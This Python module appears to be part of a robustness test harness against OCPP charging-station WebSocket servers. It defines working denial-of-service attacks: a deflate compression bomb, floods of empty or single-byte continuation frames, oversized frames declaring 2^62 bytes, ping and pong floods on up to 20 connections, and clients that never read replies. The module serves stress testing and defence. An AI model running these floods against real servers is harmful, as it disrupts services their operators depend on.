"""Attacks with WebSocket frames: compression, fragments, sizes, control frames.

Knows no OCPP beyond a few valid messages.
"""

from __future__ import annotations

import struct
import time
from itertools import chain, cycle, repeat

from hostile.attack import FLOOD, NEAR_LIMIT, Target, attack
from hostile.ocpp import data_transfer, opener
from hostile.wire import CONTINUATION, DEFLATE, MASK, PING, PONG, Sender, again_and_again, call, deflated, endlessly, flood, frame, packed


@attack("compression bombs", "A7", "50 MB in 48 kB, reconnecting after each")
def compression_bombs(target: Target) -> None:
    bomb = deflated(b" " * 50_000_000)
    target.begin()
    again_and_again(target, opener(target, more=DEFLATE), repeat(bomb))


@attack("compressed messages of 1 MB", "A7b, F2", "DataTransfers just below the limit, 1 kB each on the line", memory=FLOOD)
def compressed_messages(target: Target) -> None:
    messages = [deflated(data_transfer(f"c{number}", NEAR_LIMIT)) for number in range(20)]
    target.begin()
    flood(target, [Sender(target, opener(target, more=DEFLATE), lambda: chain.from_iterable(repeat(messages)))])


@attack("empty continuation frames", "A8", "a message of empty fragments without end")
def empty_continuations(target: Target) -> None:
    first, more = frame(b"[", fin=False), frame(b"", CONTINUATION, fin=False) * 5000
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(more, first))])


@attack("1,000 empty fragments a message", "A8b", "Heartbeats with 1,000 empty fragments each, again and again")
def empty_fragments(target: Target) -> None:
    text = call("Heartbeat", {})
    message = frame(text, fin=False) + frame(b"", CONTINUATION, fin=False) * 1000 + frame(b"", CONTINUATION)
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(message * 10))])


@attack("1-byte frames", "A8c", "Heartbeats with a fragment for each byte")
def byte_frames(target: Target) -> None:
    text = call("Heartbeat", {})
    fragments = [frame(text[:1], fin=False)]
    fragments += [frame(text[at : at + 1], CONTINUATION, fin=at == len(text) - 1) for at in range(1, len(text))]
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(b"".join(fragments) * 400))])


@attack("1-byte segments", "A8d", "Heartbeats with a TCP segment for each byte")
def byte_segments(target: Target) -> None:
    pieces = [bytes((each,)) for each in frame(call("Heartbeat", {}))]
    target.begin()
    flood(target, [Sender(target, opener(target), lambda: chain.from_iterable(repeat(pieces)))])


@attack("oversized frames", "A8e", "frames of 1 MB + 1, 10 MB and 2^62 bytes, reconnecting after each")
def oversized_frames(target: Target) -> None:
    body = b"x" * 65536
    heads = [struct.pack("!BBQ", 0x81, 0xFF, size) + MASK + body for size in ((1 << 20) + 1, 10_000_000, 1 << 62)]
    target.begin()
    again_and_again(target, opener(target), cycle(heads))


@attack("bytes after a refused frame", "A8e", "a frame of 2^62 bytes whose bytes go on coming")
def bytes_after_refusal(target: Target) -> None:
    body = b"x" * 65536
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(body, struct.pack("!BBQ", 0x81, 0xFF, 1 << 62) + MASK))])


@attack("pings", "A9", "as fast as they go, answers read")
def pings(target: Target) -> None:
    data = frame(b"x" * 100, PING) * 500
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(data))])


@attack("pings on 20 connections", "A9b", "990 a second on each")
def pings_on_many(target: Target) -> None:
    data = frame(b"x" * 4, PING) * 99
    target.begin()
    lines = [opener(target, f"hostile-{number}")() for number in range(20)]
    for each in lines:
        each.socket.setblocking(False)
    due = time.monotonic()
    while target.lasts:
        for each in list(lines):
            try:
                each.socket.send(data)
                target.counts["chunks"] += 1
                while each.socket.recv(1 << 16):
                    pass
            except BlockingIOError:
                pass
            except OSError:
                lines.remove(each)
                target.counts["closed"] += 1
        due += 0.1
        target.pause(due - time.monotonic())


@attack("pongs", "A9c, F22", "as fast as they go")
def pongs(target: Target) -> None:
    data = frame(b"x" * 4, PONG) * 5000
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(data))])


@attack("control frames unread", "A9d", "pings as fast as they go, answers not read")
def unread_control_frames(target: Target) -> None:
    data = frame(b"x" * 125, PING) * 500
    target.begin()
    flood(target, [Sender(target, opener(target), endlessly(data), reads=False)])


@attack("messages never read", "A20", "Heartbeats from a charger that never reads an answer")
def never_reads(target: Target) -> None:
    chunks = heartbeats()
    target.begin()
    flood(target, [Sender(target, opener(target), lambda: chain.from_iterable(repeat(chunks)), reads=False)])


@attack("messages never read, 100 connections", "A20", "the same on 100 connections", memory=15.0)
def never_reads_on_many(target: Target) -> None:
    chunks = heartbeats()
    target.begin()
    senders = [
        Sender(target, opener(target, f"hostile-{number}"), lambda: chain.from_iterable(repeat(chunks)), reads=False)
        for number in range(100)
    ]
    flood(target, senders)


def heartbeats(number: int = 50_000) -> list[bytes]:
    """That many Heartbeats, each with an id of its own."""
    return packed(frame(call("Heartbeat", {}, f"h{each}")) for each in range(number))
